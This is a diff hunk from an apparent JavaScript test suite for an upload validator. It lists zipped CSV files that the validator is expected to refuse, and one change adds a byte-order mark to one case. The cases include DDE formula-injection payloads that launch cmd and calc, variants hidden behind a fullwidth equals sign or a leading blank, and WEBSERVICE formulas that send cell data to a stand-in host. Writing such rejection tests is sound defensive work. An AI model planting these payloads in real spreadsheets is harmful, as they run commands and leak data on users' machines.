@@ -146,7 +146,7 @@ describe('a refused archive', () => {
     ['with a page that is called a table', zip({ 'a.csv': '<table><tr><td>x' })],
     ['with a sheet of another kind that is called a table', zip({ 'a.csv': 'ID;PWXL;N;E\nC;Y1;X1;K"x"' })],
     ['with a table that asks another program', zip({ 'a.csv': "a;b\n1;=cmd|'/c calc'!A0\n" })],
-    ['with a table that asks another program by a wide sign', zip({ 'a.csv': "a;b\n1;＝cmd|'/c calc'!A0\n" })],
+    ['with a table that asks another program by a wide sign', zip({ 'a.csv': "\ufeffa;b\n1;＝cmd|'/c calc'!A0\n" })],
     ['with a table that asks another program behind a blank', zip({ 'a.csv': 'a;" +cmd|\'/c calc\'!A0"\n' })],
     ['with a table that fetches', zip({ 'a.csv': '=WEBSERVICE("http://h/"&A1);1' })],
     ['with a table that fetches by a Spanish name', zip({ 'a.csv': '1;@SERVICIOWEB(A1&B1)' })],
